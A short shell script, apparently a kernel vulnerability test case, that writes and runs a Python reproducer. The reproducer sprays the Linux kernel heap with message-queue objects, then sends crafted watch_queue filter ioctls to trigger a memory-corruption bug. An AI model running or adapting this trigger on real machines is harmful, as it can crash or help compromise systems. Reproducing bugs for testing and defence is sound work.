#!/bin/sh
. /opt/case/case.sh

cat >/tmp/q.py <<'END'
import ctypes, fcntl, os
c = ctypes.CDLL(None, use_errno=True)
assert c.unshare(0x10000000 | 0x40000000) == 0, os.strerror(ctypes.get_errno())
q = [c.msgget(0, 0o1600) for _ in range(64)]; sent = 0
for round in range(8):
    for i in q:
        m = (ctypes.c_char * 1032)(); m[0] = 1
        sent += c.msgsnd(i, m, 960, 0o4000) == 0
fds = (ctypes.c_int * 2)()
if c.pipe2(fds, 0o200) == 0:
    for size in range(1, 40):
        try: fcntl.ioctl(fds[0], 0x5760, size)
        except OSError: pass
        try: fcntl.ioctl(fds[0], 0x5761, bytes([0] * 8 + [255] * 56))
        except OSError: pass
assert sent > 300, sent
for i in q: c.msgctl(i, 0, None)
END
python3 /tmp/q.py
took_place
